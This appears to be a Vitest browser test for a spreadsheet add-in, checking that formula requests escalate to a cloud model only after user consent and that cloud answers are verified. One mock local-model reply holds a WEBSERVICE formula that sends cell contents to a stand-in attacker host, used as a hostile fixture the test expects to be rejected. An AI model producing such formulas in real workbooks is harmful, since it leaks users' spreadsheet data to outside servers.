import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startCloudRelay, type CloudRelayFixture } from "../support/cloud-relay-fixture";
import type { OpenAiProtocolServer } from "../support/openai-protocol-server";
import { startPaneHarness, type PaneHarness, type WorkbookSpec } from "./pane-harness";

/**
 * When the local model finds no verified formula, the Formula view offers the cloud model under
 * policy "ask": the consent dialog shows what would be sent, and the cloud's formula is proven on
 * the sheet like a local one before it may be inserted.
 */
const KEY = "sk-formula-escalation-browser-0a9b8c";
const SALES: WorkbookSpec = {
  sheets: {
    Sales: [
      ["Region", "Product", "Revenue"],
      ["East", "Widget", 120],
      ["West", "Gadget", 300],
      ["West", "Widget", 80],
    ],
  },
  selection: "Sales!E1",
};
const evil = {
  content: JSON.stringify({ kind: "free_form", formula: '=WEBSERVICE("http://evil.example/?d="&A2)' }),
};

describe("Formula view escalation in Chromium", () => {
  let harness: PaneHarness;
  let cloud: OpenAiProtocolServer;
  let relay: CloudRelayFixture;

  beforeAll(async () => {
    relay = await startCloudRelay(KEY, { mode: "ask" });
    cloud = relay.cloud;
    harness = await startPaneHarness({ models: ["qwen2.5:3b"], cloud: relay.service });
  });
  afterAll(async () => {
    await harness?.close();
    await relay?.close();
  });

  it("offers the cloud model after no verified local formula, sends only on approval, and proves its answer", async () => {
    harness.ollama.enqueue(evil, evil, evil);
    const page = await harness.openPane({ view: "formula", workbook: SALES });
    await page
      .getByRole("textbox", { name: "What should the formula compute?" })
      .fill("total revenue for West");
    await page.getByTestId("formula-generate").click();
    await page.getByTestId("formula-answer").waitFor({ timeout: 20_000 });
    expect(await page.getByTestId("formula-badge").innerText()).toBe("No verified formula");
    expect(await page.getByTestId("formula-escalation").innerText()).toMatch(/could try/);
    expect(cloud.requests).toHaveLength(0);

    await page.getByRole("button", { name: "Review and send" }).click();
    expect(await page.getByTestId("consent-payload").innerText()).toMatch(/Revenue/);
    cloud.enqueue({
      value: {
        answer: {
          kind: "aggregate",
          function: "sum",
          valueColumn: "Revenue",
          criteria: [{ column: "Region", operator: "equals", value: "West" }],
        },
      },
    });
    await page.getByRole("button", { name: "Send to gpt-4o-mini" }).click();
    await expect.poll(() => page.getByTestId("formula-badge").innerText()).toBe("Verified");
    expect(await page.getByTestId("formula-model").innerText()).toMatch(/^Cloud: gpt-4o-mini/);
    expect(await page.getByTestId("formula-value").innerText()).toBe("380");
    expect(cloud.requests).toHaveLength(1);
    await harness.screenshot(page, "formula-escalated-light-320");

    // Activity lists both rounds: the local one waiting for approval, then the cloud answer.
    await page.getByTestId("tab-activity").click();
    const operations = page.getByTestId("recent-operation");
    await expect.poll(() => operations.count()).toBe(2);
    expect(await operations.nth(0).innerText()).toMatch(/Formula[\s\S]*Done[\s\S]*Cloud: gpt-4o-mini/);
    expect(await operations.nth(1).innerText()).toMatch(/Waiting for approval/);
    await page.context().close();
  });
});
